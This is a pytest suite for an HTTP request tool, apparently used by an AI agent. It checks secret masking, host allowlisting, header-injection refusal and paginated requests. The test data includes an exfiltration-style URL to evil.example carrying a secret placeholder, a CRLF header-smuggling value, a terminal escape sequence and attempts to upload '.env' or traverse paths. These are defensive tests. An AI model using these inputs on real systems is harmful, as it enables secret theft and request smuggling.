"""`http_request`: what it sends, what it shows, and that a secret is filled in at the door and never seen again."""

from __future__ import annotations

import base64
import json
import socket
from pathlib import Path
from typing import Any

import pytest

from outrider.memory.redaction import Masker
from outrider.tools.tool import ToolContext, ToolError
from outrider.tools.web import http_request
from tests.servers.web import Asked, WebServer, answer, raw, redirect

SECRET = 'hf_very"secret/value +é'


def context(server: WebServer, **secrets: str) -> ToolContext:
    return ToolContext(workspace=Path(), allowed_hosts=(server.host,), secret=secrets.get, mask=Masker(secrets).text)


async def request(ctx: ToolContext, **arguments: Any) -> str:
    """What a run would keep and show: everything a tool gives is masked on its way (toolbox.py)."""
    try:
        text = await http_request.http_request.run(http_request.http_request.check(arguments), ctx)
    except ToolError as error:
        raise ToolError(*(ctx.mask(part) for part in (error.what, error.why, error.fix))) from None
    assert isinstance(text, str)
    return ctx.mask(text)


def echo(connection: socket.socket, asked: Asked) -> None:
    """Sends back everything it was sent."""
    shown = {"method": asked.method, "query": asked.query, "headers": dict(asked.headers), "body": asked.body.decode()}
    answer(json.dumps(shown).encode(), headers={"Content-Type": "application/json", "X-Noise": "n"})(connection, asked)


@pytest.mark.parametrize(
    ("arguments", "effect"),
    [
        ({"method": "GET"}, "read"),
        ({"method": "head"}, "read"),
        ({}, "read"),
        ({"method": "POST"}, "network"),
        ({"method": "DELETE"}, "network"),
        ({"method": "OPTIONS"}, "network"),
        ({"method": "GET", "body": "x"}, "network"),
        ({"method": "GET", "json": {}}, "network"),
        ({"method": "GET", "headers": {"Authorization": "Bearer {{secret:HF_TOKEN}}"}}, "network"),
        ({"method": "GET", "url": "http://evil.example/{{ secret:HF_TOKEN }}"}, "network"),
    ],
)
def test_http_request_reads_only_when_it_sends_nothing(arguments: dict[str, Any], effect: str) -> None:
    """Looking up is free; a method that sends, a body or a secret is not."""
    full = {"url": "http://127.0.0.1/", **arguments}
    assert http_request.http_request.effect_of(full) == effect
    assert http_request.http_request.effect_of(http_request.http_request.check(full)) == effect
    assert http_request.http_request.origin == "untrusted"


async def test_http_request_shows_status_a_few_headers_and_the_body() -> None:
    """JSON is made readable; headers that say nothing are left out."""
    with WebServer(
        {"/": answer(b'{"a":[1,2]}', headers={"Content-Type": "application/json", "X-Noise": "n"})}
    ) as server:
        assert await request(context(server), url=server.url("/")) == (
            'status 200\ncontent-type: application/json\ncontent-length: 11\n\n{\n "a": [\n  1,\n  2\n ]\n}'
        )


async def test_http_request_sends_json_text_and_headers() -> None:
    """What the server got is what was asked for."""
    with WebServer({"/": echo}) as server:
        ctx = context(server)
        sent = await request(ctx, url=server.url("/?q=1"), method="post", json={"é": 1}, headers={"X-A": "b"})
        assert '"method": "POST"' in sent
        assert server.requests[0].body == '{"é": 1}'.encode()
        assert server.requests[0].headers["content-type"] == "application/json"
        assert server.requests[0].headers["x-a"] == "b"
        await request(ctx, url=server.url("/"), method="PUT", body="text", headers={"Content-Type": "text/csv"})
        assert (server.requests[1].body, server.requests[1].headers["content-type"]) == (b"text", "text/csv")
        assert "(no body)" in await request(ctx, url=server.url("/"), method="HEAD")


async def test_http_request_answers_with_the_status_whatever_it_is() -> None:
    """A 404 or 500 of an API is an observation, not a failure; a redirect says where it led."""
    with WebServer({"/old": redirect("/new"), "/new": answer(b"x", status=500)}) as server:
        text = await request(context(server), url=server.url("/old"))
        assert text.startswith(f"status 500\nmoved to {server.url('/new')}")


async def test_http_request_fills_secrets_in_and_never_shows_them() -> None:
    """In address, headers, text and JSON; sent back plain, quoted, escaped or in base64, it is replaced by its name."""
    token = "hf_very-secret_value+/="
    with WebServer({"/": echo}) as server:
        ctx = context(server, HF_TOKEN=token)
        text = await request(
            ctx, method="POST", url=server.url("/?t={{secret:HF_TOKEN}}"), json={"k": ["{{secret:HF_TOKEN}}"]},
            headers={"Authorization": "Bearer {{ secret:HF_TOKEN }}", "X-B": base64.b64encode(token.encode()).decode()},
        )  # fmt: skip
        got = server.requests[0]
        assert got.headers["authorization"] == f"Bearer {token}"
        assert json.loads(got.body) == {"k": [token]}
        assert "hf_very-secret_value%2B%2F%3D" in got.query
        assert "very-secret" not in text
        assert base64.b64encode(token.encode()).decode() not in text
        assert text.count("{{secret:HF_TOKEN}}") >= 4


async def test_http_request_escapes_a_secret_inside_json_and_hides_it_in_an_error() -> None:
    """A quote in a secret breaks nothing, and a failed address does not quote it."""
    with WebServer({"/": echo}) as server:
        ctx = context(server, ODD=SECRET)
        text = await request(ctx, method="POST", url=server.url("/"), json={"k": "{{secret:ODD}}"})
        assert json.loads(server.requests[0].body) == {"k": SECRET}
        assert "very" not in text
    with WebServer({"/": raw(b"")}) as server:
        with pytest.raises(ToolError) as caught:
            await request(context(server, T="topsecret"), method="POST", url="http://{{secret:T}}.invalid:1/")
        assert "topsecret" not in str(caught.value)


@pytest.mark.parametrize(
    ("arguments", "why"),
    [
        ({"headers": {"A": "{{secret:MISSING}}"}}, "no secret MISSING"),
        ({"headers": {"A\r\nB": "c"}}, "not a header"),
        ({"headers": {"A": "b\r\nEvil: c"}}, "not a header"),
        ({"headers": {"A": "日本"}}, "not plain text"),
        ({"method": "POST", "body": "a", "json": 1}, "two bodies"),
        ({"method": "POST", "body": "x" * 1_000_001}, "too large"),
    ],
)
async def test_http_request_refuses_before_anything_is_sent(arguments: dict[str, Any], why: str) -> None:
    """A header that smuggles another, a missing secret, two bodies: one sentence, no connection."""
    with WebServer({"/": echo}) as server:
        with pytest.raises(ToolError, match=why):
            await request(context(server), url=server.url("/"), **arguments)
        assert server.connections == 0


async def test_http_request_does_not_reach_inside() -> None:
    """The same door as every other tool. (The server is there: the tests above reach it when it is allowed.)"""
    with WebServer({"/": echo}) as server:
        with pytest.raises(ToolError, match="refused"):
            await request(ToolContext(workspace=Path()), url=server.url("/"))
        assert server.connections == 0


async def test_http_request_does_not_show_binary_or_control_codes_and_cuts_what_is_large() -> None:
    """Pictures are counted, escape codes removed, a 10 MB answer cut at one."""
    routes = {
        "/png": answer(b"\x89PNG\x00\x01", headers={"Content-Type": "image/png"}),
        "/esc": answer(b"a\x1b]0;owned\x07b"),
        "/big": answer(b"x" * 10_000_000),
    }
    with WebServer(routes) as server:
        ctx = context(server)
        assert "(6 bytes of image/png, not shown)" in await request(ctx, url=server.url("/png"))
        assert "\n\nab" in await request(ctx, url=server.url("/esc"))
        big = await request(ctx, url=server.url("/big"))
        assert "(cut: larger than 1,000,000 bytes)" in big
        assert len(big) < 1_001_000


# ---- forms, files, pages, shapes -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "arguments", [{"form": {"a": "1"}}, {"files": {"f": "a.txt"}}, {"method": "GET", "form": {"a": "1"}}]
)
def test_http_request_with_a_form_or_a_file_sends_something(arguments: dict[str, Any]) -> None:
    """A GET that carries a file is no look-up."""
    full = http_request.http_request.check({"url": "http://127.0.0.1/", **arguments})
    assert http_request.http_request.effect_of(full) == "network"


async def test_http_request_sends_forms_and_files_of_the_workspace(tmp_path: Path) -> None:
    """As a browser would; a file that holds keys is not sent."""
    (tmp_path / "a.txt").write_text("content of a")
    (tmp_path / ".env").write_text("KEY=1")
    with WebServer({"/": echo}) as web:
        ctx = ToolContext(workspace=tmp_path, allowed_hosts=(web.host,))
        said = await request(ctx, url=web.url("/"), method="POST", form={"name": "Ann & Bob", "n": "1"})
        assert "name=Ann+%26+Bob&n=1" in said
        assert "application/x-www-form-urlencoded" in said
        said = await request(ctx, url=web.url("/"), method="POST", form={"name": "Ann"}, files={"f": "a.txt"})
        assert "multipart/form-data; boundary=" in said
        for part in ("content of a", 'name=\\"f\\"; filename=\\"a.txt\\"', 'name=\\"name\\"'):
            assert part in said
        for wrong in ({"files": {"f": ".env"}}, {"files": {"f": "../x"}}, {"form": {"a": "1"}, "body": "b"}):
            with pytest.raises(ToolError):
                await request(ctx, url=web.url("/"), method="POST", **wrong)


def paged(form: str) -> Any:
    """Three pages of two items each, pointing on by Link, by an address, or by a cursor."""

    def route(connection: socket.socket, asked: Asked) -> None:
        query = dict(part.split("=") for part in asked.query.split("&") if part)
        number = int(query.get("page") or query.get("cursor") or 1)
        items = [{"id": 2 * number - 1, "name": f"n{2 * number - 1}"}, {"id": 2 * number, "name": f"n{2 * number}"}]
        following = number + 1 if number < 3 else None
        headers = {"Content-Type": "application/json"}
        value: Any = {"items": items, "total": 6}
        if form == "link":
            value = items
            headers |= (
                {"Link": f'</list?page={following}>; rel="next", </list?page=1>; rel="first"'} if following else {}
            )
        elif form == "address":
            value["next"] = f"/list?page={following}" if following else None
        elif form == "cursor":
            value["next_cursor"] = str(following) if following else ""
        elif form == "elsewhere":
            value["next"] = "http://evil.example/list"
        answer(json.dumps(value).encode(), headers=headers)(connection, asked)

    return route


@pytest.mark.parametrize(
    ("form", "how"),
    [("link", "3 pages; that is all"), ("address", "3 pages; that is all"), ("cursor", "3 pages; that is all")],
)
async def test_http_request_follows_pages_and_picks_what_is_wanted(form: str, how: str) -> None:
    """All pages in one value, shaped before it is cut to size."""
    with WebServer({"/list": paged(form)}) as web:
        shape = "[].name" if form == "link" else "items[].name"
        said = await request(context(web), url=web.url("/list"), pages=10, shape=shape)
        assert json.loads(said[said.index("[") :]) == ["n1", "n2", "n3", "n4", "n5", "n6"]
        assert f"({how})" in said
        assert len(web.requests) == 3
        said = await request(context(web), url=web.url("/list"), pages=2)
        assert "n4" in said
        assert "n5" not in said
        assert "2 pages; followed by" in said


async def test_http_request_does_not_follow_pages_to_another_server() -> None:
    """The headers and secrets of the first would go along."""
    with WebServer({"/list": paged("elsewhere")}) as web:
        said = await request(context(web), url=web.url("/list"), pages=5)
        assert "the next page is on another server: http://evil.example/list" in said


@pytest.mark.parametrize(
    ("shape", "said"),
    [
        ("total", "6"),
        ("items[?id > `1`].id | [0]", "2"),
        ("nothing", "(shape picks nothing; the answer has items, total)"),
    ],
)
async def test_http_request_shapes_an_answer(shape: str, said: str) -> None:
    """JMESPath; nothing found says what there is."""
    with WebServer({"/list": paged("none")}) as web:
        assert (await request(context(web), url=web.url("/list"), shape=shape)).endswith(said)


async def test_http_request_says_when_it_cannot_shape() -> None:
    """A wrong expression is refused before anything is sent; an answer that is no JSON is shown as it is."""
    with WebServer({"/text": answer(b"plain words"), "/bad": answer(b"no", status=500)}) as web:
        with pytest.raises(ToolError, match="not a JMESPath expression"):
            await request(context(web), url=web.url("/text"), shape="items[")
        assert not web.requests
        said = await request(context(web), url=web.url("/text"), shape="a")
        assert "pages and shape need a whole JSON answer; it is text/plain, not JSON" in said
        assert "plain words" in said
        assert "status 500" in await request(context(web), url=web.url("/bad"), shape="a")
